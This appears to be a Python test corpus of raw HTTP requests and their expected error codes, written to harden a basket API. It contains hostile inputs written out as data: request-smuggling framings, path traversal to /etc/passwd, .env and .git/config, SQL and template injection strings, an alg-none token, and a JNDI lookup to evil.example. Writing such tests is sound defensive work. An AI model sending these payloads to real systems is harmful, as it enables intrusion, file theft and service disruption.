"""The corpus: what is sent, and what must come back. The key and the order number stand in it as `{key}` and `{order}`.

A case whose answer is `server` is refused by the process server before the application sees it.
"""

from collections.abc import Sequence
from dataclasses import dataclass

from tests.hostile.wire import chunked, request

Answer = int | tuple[int, int, str]

BOB = "/baskets/users/bob"
ADA = "/baskets/users/ada"
SESSIONS = f"{ADA}/checkout/sessions"
FINISH = f"{SESSIONS}/finish-active"
PLACE = f"{ADA}/products/p1"
KEY = "X-API-Key: {key}"
JSON = "Content-Type: application/json"
CHUNKED = "Transfer-Encoding: chunked"
# Refused for its content only: whatever else is wrong with a request must have been noticed before.
MAYBE = b'{"ordered": "maybe"}'
FALSE = b'{"ordered": false}'

FINE = 200
BAD = (400, 400, "bad_request")
NO_KEY = (401, 401, "api_key_missing")
BAD_KEY = (401, 401, "api_key_invalid")
BAD_TOKEN = (401, 2002, "token_invalid")
NOWHERE = (404, 404, "not_found")
METHOD = (405, 405, "method_not_allowed")
VERSION = (406, 406, "version_unsupported")
ACCEPT = (406, 406, "not_acceptable")
LARGE = (413, 3002, "body_too_large")
MEDIA = (415, 3002, "unsupported_media_type")
INVALID = (422, 3002, "validation_failed")


@dataclass(frozen=True, kw_only=True)
class Case:
    """One input.

    :param server: the status with which the process server refuses it; 0 where it just hangs up.
    :param logged: whether a line of the log tells how long it took; the others are answered without any work.
    :param then_closed: whether the connection must be closed afterwards, because nobody knows where the next request begins.
    """

    name: str
    raw: bytes
    answer: Answer | None = None
    server: int | None = None
    logged: bool = True
    then_closed: bool = False
    head_only: bool = False


def get(target: str | bytes, *headers: str | bytes, **options: object) -> bytes:
    """Read something, with a good key."""
    return request("GET", target, KEY, *headers, **options)  # type: ignore[arg-type]


def post(body: bytes, *headers: str | bytes, to: str = FINISH, **options: object) -> bytes:
    """Send a body, with a good key; as JSON unless another type is named."""
    return request("POST", to, KEY, *headers, body=body, **options)  # type: ignore[arg-type]


def finish(body: bytes, *headers: str | bytes, **options: object) -> bytes:
    """Send JSON to finish-active."""
    return post(body, JSON, *headers, **options)


def cases(expected: Answer, *named: tuple[str, bytes]) -> list[Case]:
    """Make cases of one answer."""
    return [Case(name=name, raw=raw, answer=expected) for name, raw in named]


def refused_by_the_server(status: int, *named: tuple[str, bytes]) -> list[Case]:
    """Make cases that the application never sees."""
    return [Case(name=name, raw=raw, server=status) for name, raw in named]


FRAMING = [
    *refused_by_the_server(
        400,
        ("two lengths", finish(MAYBE, "Content-Length: 20", "Content-Length: 3", length=False)),
        ("a list of lengths", finish(MAYBE, "Content-Length: 20, 20", length=False)),
        ("a length below zero", finish(MAYBE, "Content-Length: -1", length=False)),
        ("a length with a sign", finish(MAYBE, "Content-Length: +20", length=False)),
        ("a length beyond 64 bits", finish(MAYBE, "Content-Length: 99999999999999999999999", length=False)),
        ("a length in hexadecimal", finish(MAYBE, "Content-Length: 0x14", length=False)),
        ("a length that is empty", finish(MAYBE, "Content-Length:", length=False)),
        ("an unknown transfer coding", finish(chunked(MAYBE), "Transfer-Encoding: xchunked", length=False)),
        ("the identity as a transfer coding", finish(MAYBE, "Transfer-Encoding: identity", length=False)),
        ("chunked but not last", finish(chunked(MAYBE), "Transfer-Encoding: chunked, gzip", length=False)),
        ("two transfer codings", finish(chunked(MAYBE), CHUNKED, "Transfer-Encoding: identity", length=False)),
        ("a space before the colon", finish(chunked(MAYBE), "Transfer-Encoding : chunked", length=False)),
        ("chunks in HTTP/1.0", finish(chunked(MAYBE), CHUNKED, length=False, version="1.0")),
        ("HTTP/0.9", b"GET /baskets/users/bob\r\n\r\n"),
        ("HTTP/1.2", get(BOB, version="1.2")),
        ("HTTP/2.0 by its name", get(BOB, version="2.0")),
        ("a header folded over two lines", get(BOB, "X-A: a\r\n b")),
        ("a bare CR in a header", get(BOB, "X-A: a\rb")),
        ("NUL in a header", get(BOB, b"X-A: a\x00b")),
        ("NUL in an Idempotency-Key", finish(FALSE, b"Idempotency-Key: a\x00b")),
        ("a header without a colon", get(BOB, "nonsense")),
        ("a header without a name", get(BOB, ": x")),
        ("a header's name with a space", get(BOB, "X A: x")),
        ("a method with a strange letter", request("G@T", BOB, KEY)),
        ("a TLS hello", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"x" * 200 + b"\r\n\r\n"),
        ("a space in the path", get("/baskets/users/a b")),
        ("a tab in the path", get("/baskets/users/a\tb")),
        ("NUL in the path", get(b"/baskets/users/a\x00b")),
        ("bytes that are not UTF-8 in the path", get(b"/baskets/users/\xff")),
        ("bytes that are not UTF-8 in the query", get(b"/baskets/users/bob?a=\xff")),
    ),
    *refused_by_the_server(431, ("500 headers", get(BOB, *[f"X-{n}: x" for n in range(500)]))),
    *refused_by_the_server(414, ("a query of 300 KB", get(f"{BOB}?a=" + "x" * 300_000))),
    *refused_by_the_server(0, ("the preface of HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")),
    # Both a length and chunks: the chunks count, and the connection ends, so that no second reading can matter.
    Case(
        name="a length before chunks",
        raw=finish(chunked(MAYBE), "Content-Length: 4", CHUNKED, length=False),
        answer=INVALID,
        then_closed=True,
    ),
    Case(
        name="chunks before a length",
        raw=finish(chunked(MAYBE), CHUNKED, "Content-Length: 4", length=False),
        answer=INVALID,
        then_closed=True,
    ),
    Case(
        name="a request hidden behind a length that chunks overrule",
        raw=finish(chunked(MAYBE) + request("DELETE", BOB, KEY), "Content-Length: 300", CHUNKED, length=False),
        answer=INVALID,
        then_closed=True,
    ),
    *cases(
        INVALID,
        ("chunks", finish(chunked(MAYBE), CHUNKED, length=False)),
        ("chunks after a tab", finish(chunked(MAYBE), "Transfer-Encoding:\tchunked", length=False)),
        ("chunks in capitals", finish(chunked(MAYBE), "TRANSFER-ENCODING: Chunked", length=False)),
        ("chunks of one byte", finish(chunked(*(bytes([byte]) for byte in MAYBE)), CHUNKED, length=False)),
        ("a chunk with an extension", finish(b"14;a=b\r\n" + MAYBE + b"\r\n0\r\n\r\n", CHUNKED, length=False)),
        ("a key in the trailer", finish(b"14\r\n" + MAYBE + b"\r\n0\r\nX-API-Key: x\r\n\r\n", CHUNKED, length=False)),
        ("the same length twice", finish(MAYBE, "Content-Length: 20", "Content-Length: 20", length=False)),
        ("chunks that end in the middle", finish(chunked(b'{"ordered": '), CHUNKED, length=False)),
        ("a broken chunk after a good one", finish(b'c\r\n{"ordered": \r\nzz\r\nfalse}\r\n0\r\n\r\n', CHUNKED, length=False)),
        ("an unknown expectation", finish(MAYBE, "Expect: 200-maybe")),
    ),
    *cases(
        BAD,
        ("a chunk of a size that is no number", finish(b"zz\r\n" + FALSE + b"\r\n0\r\n\r\n", CHUNKED, length=False)),
        ("a chunk of a size beyond 64 bits", finish(b"f" * 17 + b"\r\n" + FALSE + b"\r\n0\r\n\r\n", CHUNKED, length=False)),
        ("a chunk of a size below zero", finish(b"-1\r\n" + FALSE + b"\r\n0\r\n\r\n", CHUNKED, length=False)),
        ("no chunk at all", finish(b"0\r\n\r\n", CHUNKED, length=False)),
        ("a broken chunk where no body is needed", post(b"zz\r\n", CHUNKED, to=SESSIONS, length=False)),
        ("a broken chunk where a count has a default", post(b"zz\r\n", CHUNKED, to=PLACE, length=False)),
        ("compressed chunks", finish(chunked(FALSE), "Transfer-Encoding: gzip, chunked", length=False)),
        ("no host", get(BOB, host=False)),
        ("no host in HTTP/1.0", get(BOB, host=False, version="1.0")),
        ("an empty host", get(BOB, "Host:", host=False)),
        ("two hosts", get(BOB, "Host: evil.example")),
        ("another host", get(BOB, "Host: evil.example", host=False)),
        ("a list of hosts", get(BOB, "Host: 127.0.0.1, evil.example", host=False)),
        ("a host with a user", get(BOB, "Host: a@127.0.0.1", host=False)),
        ("a host with a path", get(BOB, "Host: 127.0.0.1/x", host=False)),
        ("an absolute target without a host", get(f"http://evil.example{BOB}", host=False)),
    ),
    *cases(LARGE, ("chunks without an end", finish(chunked(b" " * 300_000), CHUNKED, length=False))),
    *cases(LARGE, ("a length of 10 GB", finish(FALSE, "Content-Length: 10000000000", length=False))),
    *cases(LARGE, ("10 MB", finish(b" " * 10_000_000))),
    *cases(
        FINE,
        ("HTTP/1.0", get(BOB, version="1.0")),
        ("a host with an odd port", get(BOB, "Host: 127.0.0.1:99999999", host=False)),
        ("an absolute target", get(f"http://127.0.0.1{BOB}")),
        ("an absolute target of somebody else", get(f"http://evil.example{BOB}")),
        ("lines that end with LF alone", get(BOB).replace(b"\r\n", b"\n")),
        ("empty lines in front", b"\r\n\r\n" + get(BOB)),
        ("a method in small letters", request("get", BOB, KEY)),
        ("a body that nobody asked for", get(BOB, JSON, body=b"x" * 1000)),
        ("headers of 300 KB", get(BOB, "X-A: " + "a" * 300_000)),
        ("an upgrade to a web socket", get(BOB, "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13")),
        ("an upgrade to HTTP/2", get(BOB, "Upgrade: h2c", "Connection: Upgrade, HTTP2-Settings", "HTTP2-Settings: AAMAAABk")),
        ("a range", get(BOB, "Range: bytes=0-1")),
        ("a condition", get(BOB, "If-None-Match: *", "If-Modified-Since: Thu, 01 Jan 2099 00:00:00 GMT")),
        ("no encoding of an answer at all", get(BOB, "Accept-Encoding: gzip;q=0, identity;q=0")),
        ("a key that the connection should drop", get(BOB, "Connection: X-API-Key")),
    ),
]

TARGETS = [
    Case(name="a file", raw=get("/static/../basket_project/settings.py"), answer=NOWHERE, logged=False),
    Case(name="a file, encoded", raw=get("/static/%2e%2e/%2e%2e/etc/passwd"), answer=NOWHERE, logged=False),
    *cases(
        NOWHERE,
        ("the star", request("OPTIONS", "*", KEY)),
        ("an authority to connect to", request("CONNECT", "127.0.0.1:80", KEY)),
        ("a slash in an id", get("/baskets/users/a%2Fb")),
        ("a slash in a product", post(b"", to=f"{ADA}/products/a%2Fb")),
        ("a backslash and a slash", get("/baskets/users/..%5C..%2Fetc")),
        ("up and away", get("/baskets/users/../../admin/")),
        ("a missing id", get("/baskets/users/")),
        ("a doubled slash", get("//baskets/users/bob")),
        ("a doubled slash inside", get("/baskets//users/bob")),
        ("a slash at the end", get(f"{BOB}/")),
        ("another letter case", get("/Baskets/users/bob")),
        ("v2 twice", get("/v2/v2/baskets/users/bob")),
        ("an overlong slash", get("/baskets/users/%C0%AF")),
        ("an overlong slash of three bytes", get("/baskets/users/%E0%80%AF")),
        ("half of a surrogate pair", get("/baskets/users/%ED%A0%80")),
        ("a code point beyond Unicode", get("/baskets/users/%F4%90%80%80")),
        ("a byte that is not UTF-8", get("/baskets/users/a%FFb")),
        ("a sequence cut short", get("/baskets/users/%E6%97")),
        ("Django's own addresses", get("/__debug__/")),
        ("the environment", get("/.env")),
        ("the repository", get("/.git/config")),
    ),
    *cases(
        INVALID,
        ("NUL in an id", get("/baskets/users/a%00b")),
        ("a line break in an id", get("/baskets/users/a%0d%0aX:b")),
        ("DEL in an id", get("/baskets/users/%7F")),
        ("a C1 control in an id", get("/baskets/users/a%C2%85")),
        ("a line separator in an id", get("/baskets/users/%E2%80%A8")),
        ("an escape sequence in an id", get("/baskets/users/%1b[2J")),
        ("an id of 256 letters", get("/baskets/users/" + "x" * 256)),
        ("an id of 5000 letters", get("/baskets/users/" + "x" * 5000)),
        ("an id of 256 letters beyond ASCII", get("/baskets/users/" + "%E6%97%A5" * 256)),
        ("NUL in an order number", get(f"{SESSIONS}/%00")),
        ("5000 fields in the query", post(b"", to=f"{SESSIONS}?" + "a=1&" * 5000)),
        ("a switch given twice", post(b"", to=f"{SESSIONS}?testMode=true&testMode=true")),
        ("a switch in capitals", post(b"", to=f"{SESSIONS}?testMode=TRUE")),
        ("a switch that is a number", post(b"", to=f"{SESSIONS}?testMode=1")),
        ("a switch that is empty", post(b"", to=f"{SESSIONS}?testMode=")),
        ("a switch that is not UTF-8", post(b"", to=f"{SESSIONS}?testMode=%ff")),
        ("a switch with NUL", post(b"", to=f"{SESSIONS}?testMode=true%00")),
    ),
    *cases((404, 404, "order_unknown"), ("an order number of 200 letters", get(f"{SESSIONS}/" + "A" * 200))),
    *cases((404, 404, "product_unknown"), ("a product that is a path", post(b"", to=f"{ADA}/products/..%5C..%5Cetc"))),
    *cases(
        FINE,
        ("two dots as an id", get("/baskets/users/..")),
        ("two dots as an id, encoded", get("/baskets/users/%2e%2E")),
        ("one dot as an id", get("/baskets/users/.")),
        ("an id that is encoded twice", get("/baskets/users/%252e%252e")),
        ("an id with a lone percent sign", get("/baskets/users/%")),
        ("an id with a percent sign and no digits", get("/baskets/users/%zz")),
        ("an id with an encoding that is no encoding", get("/baskets/users/%ud800")),
        ("an id of letters beyond ASCII, unencoded", get("/baskets/users/日本")),
        ("an id with markup", get("/baskets/users/%3Cscript%3Ealert(1)%3C%2Fscript%3E".replace("%2F", "%5C"))),
        ("an id with a bidi override", get("/baskets/users/%E2%80%AEtxt")),
        ("an id with SQL", get("/baskets/users/a'%20OR%201=1--")),
        ("an id with a template", get("/baskets/users/%7B%7B7*7%7D%7D")),
        ("an id with a semicolon", get("/baskets/users/bob;x=1")),
        ("a fragment", get(f"{BOB}#x")),
        ("5000 fields in a query that nobody reads", get(f"{BOB}?" + "a=1&" * 5000)),
        ("60 KB in the query", get(f"{BOB}?a=" + "x" * 60_000)),
    ),
]

METHODS = [
    *cases(
        METHOD,
        *((f"{method} of a basket", request(method, BOB, KEY)) for method in ("TRACE", "PROPFIND", "OPTIONS", "PUT", "PATCH", "POST", "X")),
        ("CONNECT to a basket", request("CONNECT", BOB, KEY)),
        ("a method in a header", request("POST", BOB, KEY, "X-HTTP-Method-Override: DELETE")),
        ("a method in a query", request("POST", f"{BOB}?_method=DELETE", KEY)),
        ("finish-active by GET", get(FINISH)),
        ("a method of 1000 letters", request("A" * 1000, BOB, KEY)),
    ),
    Case(name="HEAD of a basket", raw=request("HEAD", BOB, KEY), answer=FINE, head_only=True),
]

HEADERS = [
    *cases(NO_KEY, ("no key", request("GET", BOB)), ("a key beyond ASCII", request("GET", BOB, b"X-API-Key: \xe4"))),
    *cases(NO_KEY, ("a key as a bearer token", request("GET", BOB, "Authorization: Bearer {key}"))),
    *cases(NO_KEY, ("a key in the query", request("GET", f"{BOB}?api_key={{key}}"))),
    *cases(
        BAD_KEY,
        ("a good key, then another", get(BOB, "X-API-Key: x")),
        ("another key, then a good one", request("GET", BOB, "X-API-Key: x", KEY)),
        ("a good key twice", get(BOB, KEY)),
        ("a key in capitals", request("GET", BOB, "X-API-Key: BK_AAAAAAAAAAAA_" + "0" * 64)),
        ("a key of SQL", request("GET", BOB, "X-API-Key: ' OR '1'='1")),
        ("a key of 100 KB", request("GET", BOB, "X-API-Key: bk_" + "a" * 100_000)),
        ("a key with a percent sign", request("GET", BOB, "X-API-Key: bk_%")),
        ("a key and a comma", request("GET", BOB, f"{KEY},")),
    ),
    *cases(
        BAD_TOKEN,
        ("an empty token", get(BOB, "Authorization: Bearer")),
        ("a token that is none", get(BOB, "Authorization: Bearer a.b.c")),
        ("a token with no algorithm", get(BOB, "Authorization: Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJib2IifQ.")),
        ("a token of 100 KB", get(BOB, "Authorization: Bearer " + "a" * 100_000)),
        ("a token of dots", get(BOB, "Authorization: Bearer " + "." * 1000)),
    ),
    *cases(
        VERSION,
        ("two versions", get(BOB, "x-jay-api-version: 2025-09-15", "x-jay-api-version: 2025-07-21")),
        ("a version beyond ASCII", get(BOB, b"x-jay-api-version: 2025-09-15\xff")),
        ("an empty version", get(BOB, "X-API-Version:")),
        ("a version of 10 KB", get(BOB, "X-API-Version: " + "2" * 10_000)),
    ),
    *cases(
        ACCEPT,
        ("an answer in HTML", get(BOB, "Accept: text/html")),
        ("no answer in anything", get(BOB, "Accept: */*;q=0")),
        ("an Accept of 20 KB", get(BOB, "Accept: " + "text/html," * 2000)),
    ),
    *cases(
        MEDIA,
        ("a form", post(b"ordered=false", "Content-Type: application/x-www-form-urlencoded")),
        (
            "a form in parts",
            post(
                b'--x\r\nContent-Disposition: form-data; name="ordered"\r\n\r\nfalse\r\n--x--\r\n',
                "Content-Type: multipart/form-data; boundary=x",
            ),
        ),
        ("no type", post(FALSE)),
        ("text", post(FALSE, "Content-Type: text/plain")),
        ("a type that only ends like JSON", post(FALSE, "Content-Type: application/merge-patch+json")),
        ("JSON in another charset", post(FALSE, "Content-Type: application/json; charset=iso-8859-1")),
        ("JSON in UTF-7", post(FALSE, "Content-Type: application/json; charset=utf-7")),
        ("JSON in UTF-16 and saying so", post(FALSE.decode().encode("utf-16"), "Content-Type: application/json; charset=utf-16")),
        ("a charset that is none", post(FALSE, "Content-Type: application/json; charset=rot13")),
        ("a type with a broken parameter", post(FALSE, "Content-Type: application/json; charset*=x'y'%ff")),
        ("a type of 100 KB", post(FALSE, "Content-Type: " + "a" * 100_000)),
        ("a type beyond ASCII", post(FALSE, b"Content-Type: application/json\xff")),
        ("a compressed body", finish(b"\x1f\x8b" + b"x" * 30, "Content-Encoding: gzip")),
        ("a body that is called uncompressed", finish(FALSE, "Content-Encoding: identity")),
    ),
    *cases(
        INVALID,
        ("the other spelling of UTF-8", post(MAYBE, "Content-Type: application/json; charset=UTF8")),
        ("a charset in quotes", post(MAYBE, 'Content-Type: application/json; charset="utf-8"')),
        ("a type with a parameter", post(MAYBE, "Content-Type: application/json; profile=x")),
        ("an Idempotency-Key with a space", finish(FALSE, "Idempotency-Key: a b")),
        ("an Idempotency-Key beyond ASCII", finish(FALSE, b"Idempotency-Key: \xe4")),
        ("an empty Idempotency-Key", finish(FALSE, "Idempotency-Key:")),
        ("an Idempotency-Key of 256 letters", finish(FALSE, "Idempotency-Key: " + "k" * 256)),
    ),
    *cases(
        FINE,
        ("another host for a proxy", get(BOB, "X-Forwarded-Host: evil.example", "Forwarded: host=evil.example")),
        ("another address for a proxy", get(BOB, "X-Forwarded-For: 10.0.0.1, ' OR 1=1", "X-Real-IP: x")),
        ("another path for a proxy", get(BOB, "X-Original-URL: /admin/", "X-Rewrite-URL: /admin/")),
        ("another place of the application", get(BOB, "Script-Name: /x", "Path-Info: /y")),
        ("a proxy in the environment", get(BOB, "Proxy: http://evil.example")),
        ("a request id that is none", get(BOB, "X-Request-ID: <script>")),
        ("a request id beyond ASCII", get(BOB, b"X-Request-ID: \xe4")),
        ("a session of staff", get(BOB, "Cookie: sessionid=x; csrftoken=y")),
        ("another scheme", get(BOB, "Authorization: Basic YTpi")),
        ("an expression in a header", get(BOB, "User-Agent: ${jndi:ldap://evil.example/a}", "Referer: {{7*7}}")),
        ("two kinds of answer", get(BOB, "Accept: text/html", "Accept: application/json")),
    ),
]


def whole(*bodies: bytes) -> Sequence[tuple[str, bytes]]:
    """Name cases by their bodies."""
    return [(f"{number}. {body[:40]!r}", finish(body)) for number, body in enumerate(bodies)]


BODIES = cases(
    INVALID,
    *whole(
        b"{", b"}", b"[", b"nul", b" ", b"\n", b"\x00", b'"', b'{"ordered": false', b'{"ordered": False}', b"{'ordered': false}",
        b'{"ordered": false,}', b'{"ordered": false} x', b'{"ordered": false}{}', b'{"ordered": false}\x00', b'{"ordered" false}',
        b'\xef\xbb\xbf{"ordered": false}', b'{"ordered": false, "x": "\xff"}', b'{"ordered": false, "\xc0\xaf": 1}',
        b'{"ordered": false, "x": "\xed\xa0\x80"}', b'{"ordered": false, "x": "\xf4\x90\x80\x80"}',
        '{"ordered": false}'.encode("utf-16"), '{"ordered": false}'.encode("utf-16-be"), '{"ordered": false}'.encode("utf-32"),
        b'{"ordered": false, "x": NaN}', b'{"ordered": false, "x": -Infinity}', b'{"ordered": false, "x": 1e400}',
        b'{"ordered": false, "x": -1e400}', b'{"ordered": false, "x": ' + b"9" * 5000 + b"}",
        b'{"ordered": false, "x": 0.' + b"9" * 5000 + b"}", b'{"ordered": false, "x": 01}', b'{"ordered": false, "x": +1}',
        b'{"ordered": false, "x": .5}', b'{"ordered": false, "x": 1.}', b'{"ordered": false, "x": 0x10}',
        b'{"ordered": true, "ordered": false}', b'{"ordered": false, "\\u006frdered": true}', b'{"\\u006frdered": true, "ordered": false}',
        b'{"ordered": false, "x": {"a": 1, "\\u0061": 1}}', b'{"ordered": false, "x": [[{"": 1, "": 2}]]}',
        b'{"ordered": false, "x": "\\u0000"}', b'{"ordered": false, "\\u0000": 1}', b'{"ordered": false, "x": "\\ud800"}',
        b'{"ordered": false, "x": "\\udc00\\ud800"}', b'{"ordered": false, "\\udfff": 1}', b'{"ordered": false, "x": "a\tb"}',
        b'{"ordered": false /* no */}', b'{"ordered": false} // no', b'{"ordered": false, "x": "\\x41"}', b'{"ordered": false, "x": "\\"}',
        b"[" * 100_000, b'{"a":' * 40_000, b'[{"a":' * 30_000, b"[" * 40 + b"]" * 40,
        b'{"ordered": false, "x": ' + b"[" * 32 + b"]" * 32 + b"}",
        b'{"ordered": false, "x": "' + b'\\"[' * 40_000, b'"' * 200_001, b'"\\' * 100_000, b'["' + b"[" * 200_000,
        b"null", b"true", b"0", b'""', b"[]", b"[{}]", b'[{"ordered": false}]', b"{}",
        *(b'{"ordered": %s}' % value for value in (
            b'"false"', b'"true"', b'"off"', b"0", b"1", b"1.0", b"-0", b"-0.0", b"0e0", b"null", b"[]", b"[false]", b"{}", b'""',
        )),
        *(b'{"ordered": false, "orderNo": %s}' % value for value in (
            b"0", b"true", b"[]", b"{}", b'""', b'"\\n"', b'"\\u2028"', b'"' + b"A" * 256 + b'"',
        )),
    ),
)  # fmt: skip
COUNTS = cases(
    INVALID,
    *(
        (f"{number}. a count of {value[:24].decode()}", post(b'{"count": %s}' % value, JSON, to=PLACE))
        for number, value in enumerate((
            b"2147483648", b"9223372036854775808", b"1000", b"-2", b"-1.0", b"1.5", b"1.0", b"1e2", b"1e400", b"-0.0", b"9" * 99,
            b"9" * 5000,
            b'"3"', b'""', b"true", b"false", b"null", b"[]", b"{}", b"[1]",
        ))
    ),
)  # fmt: skip
IDS = cases(
    INVALID,
    *(
        (f"ids of {body[:24].decode()}", post(body, JSON, to="/baskets/products/details"))
        for body in (
            b"{}", b'"p1"', b"null", b"1", b"[1]", b"[null]", b'[["p1"]]', b'[""]', b'["\\n"]', b'["%s"]' % (b"x" * 256),
            b"[%s]" % b",".join([b'"p1"'] * 101), b'{"0": "p1"}',
        )
    ),
)  # fmt: skip

CORPUS = [*FRAMING, *TARGETS, *METHODS, *HEADERS, *BODIES, *COUNTS, *IDS]
